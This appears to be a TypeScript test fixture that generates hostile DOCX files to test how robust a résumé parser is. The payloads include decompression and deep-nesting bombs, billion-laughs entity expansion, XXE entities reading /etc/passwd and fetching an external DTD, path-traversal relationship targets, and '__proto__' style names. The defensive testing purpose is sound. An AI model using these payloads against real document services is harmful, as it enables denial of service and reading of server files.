import { type Bomb, GIVEN_UP, RESUME_LINES, times, utf8 } from './bomb.ts';
import { type Entry, zipOf } from './zip-file.ts';

const W =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:v="urn:schemas-microsoft-com:vml"';
const RELS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"';
const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const p = (text: string, properties = ''): string => `<w:p>${properties}<w:r><w:t>${text}</w:t></w:r></w:p>`;
const person = RESUME_LINES.map((line) => p(line)).join('');

/** A package of the parts; stored, so that no ratio of sizes gives it away, unless asked otherwise. */
const packageOf = (parts: Readonly<Record<string, string | Uint8Array>>, method = 0): Uint8Array =>
  zipOf(
    Object.entries({ '[Content_Types].xml': '<Types/>', ...parts }).map(
      ([name, part]): Entry => ({
        name,
        data: typeof part === 'string' ? utf8(part) : part,
        method,
      }),
    ),
  );

const document = (body: string): string =>
  `<?xml version="1.0"?><w:document ${W}><w:body>${person}${body}</w:body></w:document>`;

/** A DOCX of a résumé and `body`; `related` are parts by the last word of their type. */
const docx = (body: string, related: Readonly<Record<string, string>> = {}, method = 0): Uint8Array =>
  packageOf(
    {
      'word/document.xml': document(body),
      'word/_rels/document.xml.rels': `<Relationships ${RELS}>${Object.keys(related)
        .map((type, index) => `<Relationship Id="r${index}" Type="${TYPE}/${type}" Target="${type}.xml"/>`)
        .join('')}</Relationships>`,
      ...Object.fromEntries(Object.entries(related).map(([type, xml]) => [`word/${type}.xml`, xml])),
    },
    method,
  );

const raw = (xml: string, method = 0): Uint8Array => packageOf({ 'word/document.xml': xml }, method);
const nest = (open: string, close: string, depth: number, inner = ''): string =>
  open.repeat(depth) + inner + close.repeat(depth);

const word = (
  name: string,
  sizes: readonly number[],
  make: Bomb['make'],
  may: Bomb['may'] = ['ok', ...GIVEN_UP],
): Bomb => ({
  name: `docx-${name}`,
  extension: '.docx',
  sizes,
  make,
  may,
});

const DEEP = ['ok', 'corrupt', ...GIVEN_UP] as const;
const styles = (inner: string): string => `<w:styles ${W}>${inner}</w:styles>`;
const style = (id: string, basedOn: string): string =>
  `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${id}"/><w:basedOn w:val="${basedOn}"/></w:style>`;
const textBox = (inner: string): string =>
  `<w:p><w:r><w:drawing><wp:anchor><wp:positionH relativeFrom="page"><wp:posOffset>9</wp:posOffset></wp:positionH><wps:txbx><w:txbxContent>${inner}</w:txbxContent></wps:txbx></wp:anchor></w:drawing></w:r></w:p>`;
const cell = (inner: string, properties = ''): string => `<w:tc>${properties}${inner}</w:tc>`;

/** Word packages: their XML, and what Word's own structures allow. */
export const DOCX: readonly Bomb[] = [
  word('ratio', [1e6, 1e8, 3e8], (size) => raw(document(p(' '.repeat(size))), 8), ['too-large']),
  word('paragraphs-packed', [10_000, 200_000, 2_000_000], (count) => raw(document('<w:p/>'.repeat(count)), 8), [
    'ok',
    'too-large',
  ]),
  word('paragraphs', [10_000, 200_000, 2_000_000], (count) => docx('<w:p/>'.repeat(count)), [
    'ok',
    'too-large',
    'out-of-memory',
  ]),
  word('text-huge', [1e4, 1e5, 1.9e7], (size) => docx(p('客服专员 '.repeat(size / 13)))),
  word('words-many', [1000, 30_000, 200_000], (count) =>
    docx(times(count, (i) => p(`2018.03-2020.0${i % 10} 云桥${i}有限公司 客服`))),
  ),
  word('runs-many', [1000, 50_000, 400_000], (count) =>
    docx(`<w:p>${times(count, (i) => `<w:r><w:rPr><w:sz w:val="${i % 90}"/></w:rPr><w:t>客</w:t></w:r>`)}</w:p>`),
  ),
  word('tabs-many', [1000, 100_000, 2_000_000], (count) =>
    docx(`<w:p><w:r>${'<w:tab/>'.repeat(count)}<w:t>x</w:t></w:r></w:p>`),
  ),
  word('breaks-many', [100, 10_000, 700_000], (count) =>
    docx(`<w:p><w:r>${'<w:br w:type="page"/>'.repeat(count)}<w:t>x</w:t></w:r></w:p>`),
  ),
  word('pages-noted-many', [100, 10_000, 300_000], (count) =>
    docx(times(count, () => '<w:p><w:r><w:lastRenderedPageBreak/><w:t>客服</w:t></w:r></w:p>')),
  ),
  word('depth', [90, 110, 500_000], (depth) => docx(nest('<w:x>', '</w:x>', depth)), DEEP),
  word('depth-open', [90, 110, 2_000_000], (depth) => raw(`<w:document ${W}>${'<w:x>'.repeat(depth)}`), [
    'corrupt',
    'empty',
    ...GIVEN_UP,
  ]),
  word(
    'tables-nested',
    [5, 30, 5000],
    (depth) => docx(nest('<w:tbl><w:tr><w:tc><w:p/>', '</w:tc></w:tr></w:tbl>', depth, p('x'))),
    DEEP,
  ),
  word('insertions-nested', [50, 90, 100_000], (depth) => docx(nest('<w:ins>', '</w:ins>', depth, p('x'))), DEEP),
  word('rows-many', [100, 10_000, 200_000], (count) =>
    docx(`<w:tbl>${times(count, () => `<w:tr>${cell(p('a'))}${cell(p('b'))}</w:tr>`)}</w:tbl>`),
  ),
  word('cells-many', [100, 10_000, 300_000], (count) =>
    docx(`<w:tbl><w:tr>${times(count, () => cell(p('客服')))}</w:tr></w:tbl>`),
  ),
  word('spans-absurd', [9, 1_000_000, 2_147_483_647], (span) =>
    docx(
      `<w:tbl>${`<w:tr>${cell(p('a'), `<w:tcPr><w:gridSpan w:val="${span}"/><w:vMerge/></w:tcPr>`)}${cell(p('b'))}</w:tr>`.repeat(20)}</w:tbl>`,
    ),
  ),
  word('text-boxes-many', [100, 2000, 30_000], (count) => docx(times(count, () => textBox(p('客服'))))),
  word(
    'text-boxes-nested',
    [3, 12, 3000],
    (depth) => docx(Array.from({ length: depth }).reduce<string>((inner) => textBox(inner), p('x'))),
    DEEP,
  ),
  word(
    'choices-doubling',
    [4, 12, 24],
    (depth) =>
      docx(
        Array.from({ length: depth }).reduce<string>(
          (inner) => `<mc:AlternateContent><mc:Choice>${inner}</mc:Choice></mc:AlternateContent>`,
          p('x'),
        ),
      ),
    DEEP,
  ),
  word('fields-nested', [10, 1000, 100_000], (depth) =>
    docx(
      `<w:p>${nest('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>HYPERLINK "http://example.com"</w:instrText></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>', depth, '<w:r><w:t>x</w:t></w:r>')}</w:p>`,
    ),
  ),
  word('styles-cycle', [1, 2, 1000], (count) =>
    docx(p('x', '<w:pPr><w:pStyle w:val="s0"/></w:pPr>'), {
      styles: styles(times(count, (i) => style(`s${i}`, `s${(i + 1) % count}`))),
    }),
  ),
  word('styles-chain', [10, 1000, 50_000], (count) =>
    docx(p('x', '<w:pPr><w:pStyle w:val="s0"/></w:pPr>'), {
      styles: styles(times(count, (i) => style(`s${i}`, `s${i + 1}`))),
    }),
  ),
  word('styles-named-like-objects', [1, 2, 3], () =>
    docx(p('x', '<w:pPr><w:pStyle w:val="__proto__"/></w:pPr>'), {
      styles: styles(style('__proto__', 'constructor') + style('constructor', '__proto__')),
    }),
  ),
  word('lists-link-cycle', [1, 100, 3000], (count) =>
    docx(
      times(count, (i) => p('x', `<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="${i}"/></w:numPr></w:pPr>`)),
      {
        numbering: `<w:numbering ${W}>${times(count, (i) => `<w:abstractNum w:abstractNumId="${i}"><w:styleLink w:val="s${i + 1}"/><w:numStyleLink w:val="s${i}"/></w:abstractNum>`)}${times(count, (i) => `<w:num w:numId="${i}"><w:abstractNumId w:val="${i}"/></w:num>`)}</w:numbering>`,
      },
    ),
  ),
  word('list-levels-absurd', [9, 2_147_483_647, 4_294_967_295], (level) =>
    docx(p('x', `<w:pPr><w:numPr><w:ilvl w:val="${level}"/><w:numId w:val="1"/></w:numPr></w:pPr>`).repeat(50), {
      numbering: `<w:numbering ${W}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="${level}"><w:start w:val="${level}"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1%2%3%4%5%6%7%8%9"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`,
    }),
  ),
  word('list-marks-long', [100, 10_000, 300_000], (length) =>
    docx(p('x', '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>').repeat(500), {
      numbering: `<w:numbering ${W}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="${'%1.'.repeat(length)}"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`,
    }),
  ),
  word(
    'doctype-laughs',
    [3, 9, 30],
    (depth) =>
      raw(
        `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e0 "ha">${times(depth, (i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`)}]><w:document ${W}><w:body>${p(`&e${depth};`)}</w:body></w:document>`,
      ),
    ['corrupt'],
  ),
  word(
    'doctype-external',
    [1, 2, 3],
    () =>
      raw(
        `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % f SYSTEM "http://example.com/x">%f;]><w:document ${W}><w:body>${p('&e;')}</w:body></w:document>`,
      ),
    ['corrupt'],
  ),
  word(
    'doctype-in-styles',
    [1, 2, 3],
    () => docx(p('x'), { styles: `<!DOCTYPE w SYSTEM "http://example.com/x">${styles('')}` }),
    ['corrupt'],
  ),
  word('entities-many', [1000, 300_000, 3_000_000], (count) => docx(p('&#x5ba2;'.repeat(Math.min(count, 2_300_000))))),
  word(
    'attributes-many',
    [1000, 100_000, 1_000_000],
    (count) => docx(`<w:p ${times(count, (i) => `a${i}="" `)}><w:r><w:t>x</w:t></w:r></w:p>`),
    DEEP,
  ),
  word(
    'attributes-with-signs',
    [100, 5000, 200_000],
    (count) => docx(`<w:p><w:pPr><w:jc w:x="${'>'.repeat(count)}" w:val="left"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>`),
    DEEP,
  ),
  word('attribute-open', [1000, 100_000, 5_000_000], (length) => docx(`<w:p a="${'>a="'.repeat(length / 4)}`), [
    'corrupt',
    'ok',
    ...GIVEN_UP,
  ]),
  word('attribute-long', [1000, 1_000_000, 15_000_000], (length) =>
    docx(`<w:p w:rsidR="${'a'.repeat(length)}"><w:r><w:t>x</w:t></w:r></w:p>`),
  ),
  word(
    'namespaces-many',
    [100, 10_000, 300_000],
    (count) =>
      raw(
        `<w:document ${W} ${times(count, (i) => `xmlns:n${i}="urn:${i}" `)}><w:body>${person}${times(Math.min(count, 5000), (i) => `<n${i}:x/>`)}</w:body></w:document>`,
      ),
    DEEP,
  ),
  word('comments-many', [1000, 100_000, 1_000_000], (count) =>
    docx(`${'<!--x-->'.repeat(count)}${'<?x?>'.repeat(count)}`),
  ),
  word('comment-open', [1000, 100_000, 5_000_000], (length) => docx(`<!--${'<!--'.repeat(length / 4)}`), [
    'corrupt',
    'ok',
    ...GIVEN_UP,
  ]),
  word('cdata-many', [1000, 100_000, 1_000_000], (count) =>
    docx(`<w:p><w:r><w:t>${'<![CDATA[<]]>'.repeat(count)}</w:t></w:r></w:p>`),
  ),
  word('utf-16', [1, 100, 10_000], (count) =>
    packageOf({ 'word/document.xml': Buffer.from(`\ufeff${document(p('客服').repeat(count))}`, 'utf16le') }),
  ),
  word('footnotes-many', [10, 1000, 100_000], (count) =>
    docx(`<w:p>${times(count, (i) => `<w:r><w:footnoteReference w:id="${i}"/></w:r>`)}</w:p>`, {
      footnotes: `<w:footnotes ${W}>${times(count, (i) => `<w:footnote w:id="${i}">${p('note')}</w:footnote>`)}</w:footnotes>`,
    }),
  ),
  word('sections-many', [10, 2000, 50_000], (count) =>
    docx(
      times(
        count,
        () =>
          `<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="r0"/><w:cols w:num="2147483647"/><w:pgSz w:w="1" w:h="99999999"/></w:sectPr></w:pPr></w:p>${p('x')}`,
      ),
      { header: `<w:hdr ${W}>${p('head')}</w:hdr>` },
    ),
  ),
  word('links-many', [100, 5000, 50_000], (count) =>
    packageOf({
      'word/document.xml': document(
        `<w:p>${times(count, (i) => `<w:hyperlink r:id="l${i}"><w:r><w:t>a</w:t></w:r></w:hyperlink>`)}</w:p>`,
      ),
      'word/_rels/document.xml.rels': `<Relationships ${RELS}>${times(count, (i) => `<Relationship Id="l${i}" Type="${TYPE}/hyperlink" Target="http://example.com/${i}" TargetMode="External"/>`)}</Relationships>`,
    }),
  ),
  word('part-of-itself', [1, 100, 5000], (count) =>
    packageOf({
      'word/document.xml': document(times(count, () => '<w:altChunk r:id="r0"/><w:subDoc r:id="r0"/>')),
      'word/_rels/document.xml.rels': `<Relationships ${RELS}><Relationship Id="r0" Type="${TYPE}/aFChunk" Target="document.xml"/><Relationship Id="r1" Type="${TYPE}/styles" Target="document.xml"/><Relationship Id="r2" Type="${TYPE}/numbering" Target="document.xml"/></Relationships>`,
    }),
  ),
  word('external-parts', [1, 2, 3], () =>
    packageOf({
      'word/document.xml': document(
        '<w:p><w:r><w:pict><v:shape><v:imagedata r:id="r1"/></v:shape></w:pict></w:r></w:p>',
      ),
      'word/_rels/document.xml.rels': `<Relationships ${RELS}><Relationship Id="r0" Type="${TYPE}/attachedTemplate" Target="http://example.com/x.dotm" TargetMode="External"/><Relationship Id="r1" Type="${TYPE}/image" Target="file:///dev/zero" TargetMode="External"/><Relationship Id="r2" Type="${TYPE}/styles" Target="../../../../../../etc/passwd"/></Relationships>`,
    }),
  ),
  word(
    'main-part-twice',
    [2, 10, 500],
    (count) => zipOf(Array.from({ length: count }, () => ({ name: 'word/document.xml', data: utf8(document('')) }))),
    ['corrupt'],
  ),
  word('shapes-many', [100, 5000, 60_000], (count) =>
    docx(
      `<w:p><w:r>${times(count, () => '<w:pict><v:shape style="position:absolute;left:9pt"><v:textbox><w:txbxContent><w:p><w:r><w:t>x</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict>')}</w:r></w:p>`,
    ),
  ),
  word('hidden-much', [1000, 30_000, 200_000], (count) =>
    docx(times(count, () => '<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden</w:t></w:r></w:p>')),
  ),
];
